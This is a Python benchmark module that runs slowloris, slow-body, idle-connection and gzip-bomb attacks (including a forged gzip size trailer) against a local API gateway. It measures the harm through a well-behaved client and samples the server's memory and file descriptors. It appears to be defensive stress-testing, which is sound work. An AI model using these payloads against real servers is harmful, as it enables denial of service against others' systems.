"""Connection attacks of bench.attacks, and the well-behaved client that measures their harm.

- slowloris: N connections that send a request line and one header, then one more header line
  every few seconds, never finishing the headers.
- slowbody: N connections that send complete headers announcing a 1 MB body, then trickle it.
- idle: N connections that connect and send nothing (past a 1,024 file limit, the server
  cannot accept anyone else unless it bounds or sheds them).
- gzip bomb: K senders in a loop, each posting a body of about 60 KB on the wire that inflates
  to 60 MiB (gzip's ratio on one repeated byte is about 1,000:1); the forged variant lies about
  its decoded size in the gzip trailer.

The well-behaved client sends one small valid chat request at a fixed rate (open loop: late
answers do not slow the arrivals), each on a new connection like a client with no pool would;
a request with no answer within its timeout counts at the timeout.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import time
from dataclasses import dataclass, field
from pathlib import Path

from bench._attack_http import Answer, build, send

MODEL = "attack-model"


@dataclass
class ClientFigures:
    sent: int
    ok: int
    failed: int  # no answer or a non-200
    p50_ms: float
    p99_ms: float
    statuses: dict[str, int] = field(default_factory=dict)


def _quantile(values: list[float], q: float) -> float:
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


def good_request(key: str, n: int) -> bytes:
    # temperature 0.7: the exact cache skips it, so every request reaches the upstream
    body = {
        "model": MODEL,
        "messages": [{"role": "user", "content": f"well-behaved {n}"}],
        "max_tokens": 8,
        "temperature": 0.7,
    }
    headers = [(b"Content-Type", b"application/json"), (b"Authorization", f"Bearer {key}".encode())]
    return build("POST", "/v1/chat/completions", headers, json.dumps(body).encode())


async def well_behaved(
    port: int, key: str, seconds: float, rate: float, within_s: float
) -> ClientFigures:
    """Requests at ``rate`` a second for ``seconds``; latency of each (no answer: ``within_s``)."""
    tasks: list[asyncio.Task[Answer]] = []
    begin = time.perf_counter()
    i = 0
    while time.perf_counter() - begin < seconds:
        tasks.append(asyncio.create_task(send(port, good_request(key, i), within_s)))
        i += 1
        await asyncio.sleep(max(0.0, begin + i / rate - time.perf_counter()))
    answers = await asyncio.gather(*tasks)
    latencies = [a.elapsed if a.status == 200 else max(a.elapsed, within_s) for a in answers]
    statuses: dict[str, int] = {}
    for a in answers:
        label = str(a.status) if a.status else a.error or "no answer"
        statuses[label] = statuses.get(label, 0) + 1
    ok = sum(1 for a in answers if a.status == 200)
    return ClientFigures(
        sent=len(answers),
        ok=ok,
        failed=len(answers) - ok,
        p50_ms=round(_quantile(latencies, 0.5) * 1000, 2),
        p99_ms=round(_quantile(latencies, 0.99) * 1000, 2),
        statuses=statuses,
    )


class Sampler:
    """Resident memory and open file descriptors of one process, sampled every 0.1 s."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.rss_mib: list[float] = []
        self.fds: list[int] = []
        self._task: asyncio.Task[None] | None = None

    def now(self) -> tuple[float, int]:
        rss = 0.0
        with contextlib.suppress(OSError):
            for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    rss = int(line.split()[1]) / 1024
        fds = 0
        with contextlib.suppress(OSError):
            fds = len(list(Path(f"/proc/{self.pid}/fd").iterdir()))
        return rss, fds

    async def _run(self) -> None:
        while True:
            rss, fds = self.now()
            self.rss_mib.append(rss)
            self.fds.append(fds)
            await asyncio.sleep(0.1)

    def start(self) -> None:
        self._task = asyncio.create_task(self._run())

    async def stop(self) -> None:
        if self._task is not None:
            self._task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._task


@dataclass
class AttackStats:
    opened: int = 0
    refused: int = 0  # could not connect
    closed_by_server: int = 0  # the gateway ended the connection while the attack held it
    answers: dict[str, int] = field(default_factory=dict)


async def _hold(
    port: int,
    first: bytes,
    drip: bytes | None,
    every_s: float,
    stop: asyncio.Event,
    stats: AttackStats,
) -> None:
    """Open a connection, send ``first``, then ``drip`` every ``every_s`` until ``stop``."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 5)
    except (OSError, TimeoutError):
        stats.refused += 1
        return
    stats.opened += 1
    try:
        if first:
            writer.write(first)
        while not stop.is_set():
            read = asyncio.ensure_future(reader.read(65536))
            done, _ = await asyncio.wait({read}, timeout=every_s)
            if read in done:
                data = read.result()
                if not data:
                    stats.closed_by_server += 1
                    return
                status = data.split(b" ", 2)[1].decode("latin-1") if b" " in data else "?"
                stats.answers[status] = stats.answers.get(status, 0) + 1
                stats.closed_by_server += 1  # an answer to a half request ends it too
                return
            read.cancel()
            if drip is not None and not stop.is_set():
                writer.write(drip)
                await writer.drain()
    except (OSError, asyncio.IncompleteReadError):
        stats.closed_by_server += 1
    finally:
        writer.close()


async def hold_connections(
    port: int, key: str, kind: str, count: int, stop: asyncio.Event, stats: AttackStats
) -> None:
    """slowloris / slowbody / idle: ``count`` connections held until ``stop``."""
    if kind == "slowloris":
        first = b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        drip: bytes | None = b"X-Slow: 1\r\n"
    elif kind == "slowbody":
        first = (
            b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Authorization: Bearer " + key.encode() + b"\r\n"
            b"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"
        )
        drip = b" "
    else:
        first, drip = b"", None
    tasks = []
    for i in range(count):
        tasks.append(asyncio.create_task(_hold(port, first, drip, 2.0, stop, stats)))
        if i % 50 == 49:
            await asyncio.sleep(0.01)  # do not flood the accept queue in one burst
    await asyncio.gather(*tasks)


def gzip_bomb(inflated: int, forged: bool = False) -> bytes:
    """``forged``: the gzip trailer claims 1,000 bytes, so a server must inflate to find out."""
    payload = b'{"model": "%s", "messages": [{"role": "user", "content": "' % MODEL.encode()
    bomb = gzip.compress(payload + b"a" * inflated + b'"}]}', 9)
    return bomb[:-4] + (1000).to_bytes(4, "little") if forged else bomb


async def bomb_senders(
    port: int, key: str, senders: int, bomb: bytes, stop: asyncio.Event, stats: AttackStats
) -> None:
    headers = [
        (b"Content-Type", b"application/json"),
        (b"Content-Encoding", b"gzip"),
        (b"Authorization", f"Bearer {key}".encode()),
    ]
    raw = build("POST", "/v1/chat/completions", headers, bomb)

    async def loop() -> None:
        while not stop.is_set():
            answer = await send(port, raw, within_s=30)
            stats.opened += 1
            label = str(answer.status) if answer.status else answer.error
            stats.answers[label] = stats.answers.get(label, 0) + 1

    await asyncio.gather(*(loop() for _ in range(senders)))
